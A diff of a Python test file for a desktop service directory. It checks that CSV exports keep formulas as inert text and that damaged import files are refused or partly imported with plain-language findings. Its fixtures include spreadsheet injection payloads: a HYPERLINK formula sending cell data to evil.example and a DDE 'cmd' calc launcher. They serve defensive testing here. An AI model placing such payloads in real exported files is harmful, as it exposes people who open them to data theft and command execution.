@@ -1,5 +1,6 @@
 """Hostile and damaged directory files: formulas stay text in exports, and imports refuse what
-they cannot read with the usual list of problems in words (never an exception), changing nothing.
+they cannot read with findings in words (never an exception): a file that cannot be read imports
+nothing; a damaged service is left out and listed while the rest import.
 """
 
 from __future__ import annotations
@@ -8,6 +9,7 @@ import csv
 import io
 import json
 import re
+from collections.abc import Sequence
 from pathlib import Path
 from typing import Any
 
@@ -18,6 +20,8 @@ from hypothesis import strategies as st
 from sp_desktop.domain.directory import Category, Service
 from sp_desktop.services import oruk
 from sp_desktop.services.directory import DirectoryService, ImportMode, ImportRefused
+from sp_desktop.services.directory_files import DirectoryReading
+from sp_desktop.services.directory_files.findings import Finding
 
 from .conftest import DATA, entry
 
@@ -29,7 +33,7 @@ LIBRARY_WORDS = ("field limit", "Error", "Traceback", "sys.set_int_max_str_digit
 HOSTILE = [
     entry(
         '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
-        id="=1+1",
+        id="0193a7c2-0000-7000-8000-000000000001",
         organisation="+cmd|' /C calc'!A0",
         description="-2+3",
         contact_phone="+44 1632 960001",
@@ -39,7 +43,8 @@ HOSTILE = [
         area="'Tis the season",  # a real leading apostrophe stays as it is
         accessibility="= spaced",
     ),
-    entry("Lunch club", id="plain", cost="£4.50", contact_phone="01632 960002"),
+    entry("Lunch club", id="0193a7c2-0000-7000-8000-000000000002", cost="£4.50",
+          contact_phone="01632 960002"),
 ]
 
 
@@ -53,16 +58,19 @@ def assert_nothing_imported(directory: DirectoryService) -> None:
     assert [s.name for s in directory.all()] == ["Chess club"]
 
 
-def refused_in_words(directory: DirectoryService, path: Path) -> list[oruk.Problem]:
+def in_words(findings: Sequence[Finding]) -> list[Finding]:
+    assert findings
+    for finding in findings:
+        words = str(finding)
+        assert not any(w in words for w in LIBRARY_WORDS), words
+    return list(findings)
+
+
+def refused_in_words(directory: DirectoryService, path: Path) -> list[Finding]:
     with pytest.raises(ImportRefused) as refused:
         directory.import_file(path, ImportMode.REPLACE)
-    found = list(refused.value.problems)
-    assert found
-    for problem in found:
-        words = str(problem)
-        assert not any(w in words for w in LIBRARY_WORDS), words
     assert_nothing_imported(directory)
-    return found
+    return in_words(refused.value.findings)
 
 
 # --- formulas in a CSV export ------------------------------------------------------------------
@@ -87,7 +95,7 @@ def test_a_csv_export_imports_back_exactly(directory: DirectoryService, tmp_path
     path = tmp_path / "export.csv"
     directory.export_file(path)
     parsed = directory.check_file(path)
-    assert parsed.problems == ()
+    assert parsed.findings == ()
     assert sorted(parsed.services, key=lambda s: s.id) == sorted(HOSTILE, key=lambda s: s.id)
     summary = directory.import_file(path, ImportMode.REPLACE)
     assert (summary.added, summary.updated, summary.removed, summary.unchanged) == ((), (), (), 2)
@@ -103,7 +111,7 @@ def test_a_file_over_the_size_cap_is_refused_by_its_size_unread(
     with path.open("wb") as file:  # sparse: its size says 60 MB, nothing is written
         file.truncate(60 * 1024 * 1024)
     (problem,) = refused_in_words(existing, path)
-    assert str(problem).startswith("File: is larger than 50 MB (this one is 60 MB).")
+    assert str(problem).startswith("directory.json: is larger than 50 MB (this one is 60 MB).")
 
 
 def test_the_cap_is_exact(
@@ -115,7 +123,7 @@ def test_the_cap_is_exact(
     path = tmp_path / "directory.csv"
     path.write_bytes(header + b"\r\n" * 5)
     parsed = existing.check_file(path)
-    assert parsed.ok and parsed.services == ()
+    assert parsed.findings == () and parsed.services == ()
     path.write_bytes(header + b"\r\n" * 5 + b" ")
     (problem,) = refused_in_words(existing, path)
     assert "is larger than 50 MB" in str(problem)
@@ -153,14 +161,18 @@ DAMAGED = {
     "a number": ("json", b"42", "should be a list of services"),
     "null": ("json", b"null", "should be a list of services"),
     "contents as an object": ("json", b'{"contents": {"id": "a"}}', "should be a list"),
-    "a lone surrogate in a name": ("json", _with_name("Caf\udce9 club"), "cannot be text"),
-    "a name that is a list": ("json", _with_name(["a", "b"]), "should be text"),
+    "an empty file": ("csv", b"", "is empty"),
+}  # fmt: skip
+# Damage inside one service: that service is listed and left out (or, for a value an entry can
+# do without, kept without it); the file's other services import.
+DAMAGED_SERVICE = {
+    "a lone surrogate in a name": ("json", _with_name("Caf\udce9 club"), "cannot be text", 3),
+    "a name that is a list": ("json", _with_name(["a", "b"]), "should be text", 3),
     "weeks written as a superscript": (
         "csv",
         b"id,name,status,category,waiting_weeks\r\na,Lunch,active,Social activity,\xc2\xb2\r\n",
-        "whole number of weeks",
+        "not a whole number", 1,
     ),
-    "an empty file": ("csv", b"", "is empty"),
 }  # fmt: skip
 
 
@@ -173,6 +185,19 @@ def test_a_damaged_file_is_refused_with_problems_in_words(
     path.write_bytes(content)
     found = refused_in_words(existing, path)
     assert any(words in str(p) for p in found), [str(p) for p in found]
+
+
+@pytest.mark.parametrize("damage", list(DAMAGED_SERVICE), ids=list(DAMAGED_SERVICE))
+def test_a_damaged_service_is_listed_in_words_and_the_rest_import(
+    existing: DirectoryService, tmp_path: Path, damage: str
+) -> None:
+    kind, content, words, imported = DAMAGED_SERVICE[damage]
+    path = tmp_path / f"directory.{kind}"
+    path.write_bytes(content)
+    found = in_words(existing.check_file(path).findings)
+    assert any(words in str(p) for p in found), [str(p) for p in found]
+    summary = existing.import_file(path, ImportMode.MERGE)
+    assert len(summary.added) == imported
 
 
 # --- fuzzing: damaged copies of a real file never raise ------------------------------------------
@@ -204,9 +229,9 @@ def _reads_or_says_why(data: bytes, kind: str) -> None:
     """Parsing never raises, and what it accepts can be stored: text without zero bytes or
     lone surrogates (which the store would refuse with an exception)."""
     parsed = oruk.parse(data, kind)
-    assert isinstance(parsed, oruk.ParsedDirectory)
-    for problem in parsed.problems:
-        assert str(problem).strip()
+    assert isinstance(parsed, DirectoryReading)
+    for finding in parsed.findings:
+        assert str(finding).strip()
     for service in parsed.services:
         assert isinstance(service, Service) and service.name.strip()
         for value in vars_of(service):
